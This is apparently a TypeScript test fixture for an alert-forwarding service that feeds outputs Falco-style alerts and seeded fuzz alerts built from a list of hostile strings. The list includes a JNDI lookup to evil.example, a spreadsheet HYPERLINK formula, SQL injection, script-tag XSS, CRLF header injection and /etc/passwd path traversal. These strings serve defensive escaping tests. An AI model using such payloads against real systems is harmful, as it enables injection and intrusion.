import { type Alert, type FieldValue, PRIORITIES } from '../../src/alert.ts';
import { alertToJson, deliveryKey } from '../../src/json.ts';
import type { Delivery } from '../../src/output/define.ts';

/** Alerts to try outputs with: a plain one, and hostile ones at the limits of what ingest lets in. */

/** An alert like those of a Falco agent. */
export function alertWith(overrides: Partial<Alert> = {}): Alert {
  return {
    uuid: '8e2f1c1e-7d0b-4b5e-9a3c-2f1d6b7a9c10',
    time: '2026-08-11T00:04:09.137331079Z',
    receivedAt: '2026-08-11T00:04:09.150Z',
    priority: 'warning',
    rule: 'Read sensitive file untrusted',
    source: 'syscall',
    output:
      'Sensitive file opened for reading | file=/etc/shadow user=jenkins command=cat /etc/shadow',
    hostname: 'gpu-node-1',
    tags: ['T1555', 'container', 'filesystem'],
    fields: {
      'evt.time': JSON.rawJSON('1786406649137331079'),
      'fd.name': '/etc/shadow',
      'proc.name': 'cat',
      'proc.tty': 34818,
      'user.loginuid': -1,
      'user.name': 'jenkins',
    },
    ingest: { input: 'http', agent: 'falco' },
    ...overrides,
  };
}

/** What `alertWith()` is beside its fields, its output line and its time, as details. */
export const plainFacts = {
  hostname: 'gpu-node-1',
  uuid: '8e2f1c1e-7d0b-4b5e-9a3c-2f1d6b7a9c10',
  rule: 'Read sensitive file untrusted',
  source: 'syscall',
  priority: 'Warning',
  tags: 'T1555, container, filesystem',
};

/** The alert as the engine hands it to an output. */
export function deliveryOf(alert: Alert, lateMs?: number): Delivery {
  const json = alertToJson(alert);
  const key = deliveryKey(json);
  const { ingest, priority } = alert;
  const receivedAtMs = Date.parse(alert.receivedAt);
  return {
    alert,
    priority,
    ingest,
    json,
    key,
    receivedAtMs,
    ...(lateMs !== undefined && { lateMs }),
  };
}

/** Strings that mean something to a chat, a terminal, a shell, a header, a parser or a spreadsheet. */
export const HOSTILE_STRINGS = [
  '<!channel> <!here> <@U012AB3CD> <!subteam^S012>',
  '<https://evil.example/x|click here> [click](https://evil.example) @channel @everyone',
  '*bold* _it_ ~no~ `code` ```block``` > quote &amp; &lt;!here&gt;',
  '\u001b[2J\u001b]0;title\u0007\u009b31m',
  'invoice\u202Efdp.exe \u2066x\u2069 \u061c\u200f',
  'one\r\nX-Injected: yes\r\n\r\nbody\u2028two\u2029three',
  '"}],"injected":[{"a":"\\',
  '${jndi:ldap://evil.example/a} {{ .Rule }} %n%s %999999999d',
  '=HYPERLINK("https://evil.example","x") \'; DROP TABLE alerts; --',
  '../../etc/passwd\u0000.json /leading .hidden',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '\ufffd\ufeff 🦀 e\u0301 日本語 \u{10ffff}',
  '',
  ' ',
] as const;

const EXACT = [
  '1786406649137331079',
  '-9223372036854775808',
  '1e400',
  '0.10',
  '123456789.000000001',
];

/** `count` alerts that ingest would let in, the same for the same seed. */
export function oddAlerts(seed: number, count: number): Alert[] {
  const random = randomNumbers(seed);
  return Array.from({ length: count }, () => oddAlert(random));
}

function oddAlert(random: Random): Alert {
  const digits = String(below(random, 1e12)).padStart(12, '0');
  return alertWith({
    uuid: `018f6f2e-9d3b-7c11-8a55-${digits}`,
    priority: pick(random, PRIORITIES),
    rule: hostileText(random, 256) || 'rule',
    source: hostileText(random, 64) || 'syscall',
    output: hostileText(random, pick(random, [40, 400, 16_384])),
    hostname: hostileText(random, 253),
    tags: Array.from({ length: below(random, 12) }, () => hostileText(random, 128)),
    fields: Object.fromEntries(
      Array.from({ length: pick(random, [0, 3, 20, 512]) }, (_, n) => [
        `${hostileText(random, 100)}${n}`,
        fieldValue(random),
      ]),
    ),
  });
}

function fieldValue(random: Random): FieldValue {
  switch (below(random, 8)) {
    case 0:
      return JSON.rawJSON(pick(random, EXACT));
    case 1:
      return below(random, 2 ** 31) - 2 ** 30;
    case 2:
      return pick(random, [true, false, null]);
    case 3:
      return [hostileText(random, 60), hostileText(random, 60)];
    default:
      return hostileText(random, pick(random, [10, 60, 4096]));
  }
}

/** Hostile strings one after the other until `charsMax`; the last is cut, perhaps within a pair. */
function hostileText(random: Random, charsMax: number): string {
  const length = below(random, charsMax + 1);
  let text = '';
  while (text.length < length)
    text += pick(random, HOSTILE_STRINGS) + pick(random, ['a', ' ', '☃']);
  return text.slice(0, length).toWellFormed();
}

type Random = () => number;

/** Mulberry32: 2^32 numbers from 0 to 1 (without 1) from a seed. */
function randomNumbers(seed: number): Random {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

function below(random: Random, limit: number): number {
  return Math.floor(random() * limit);
}

function pick<T>(random: Random, items: readonly T[]): T {
  return items[below(random, items.length)] as T;
}
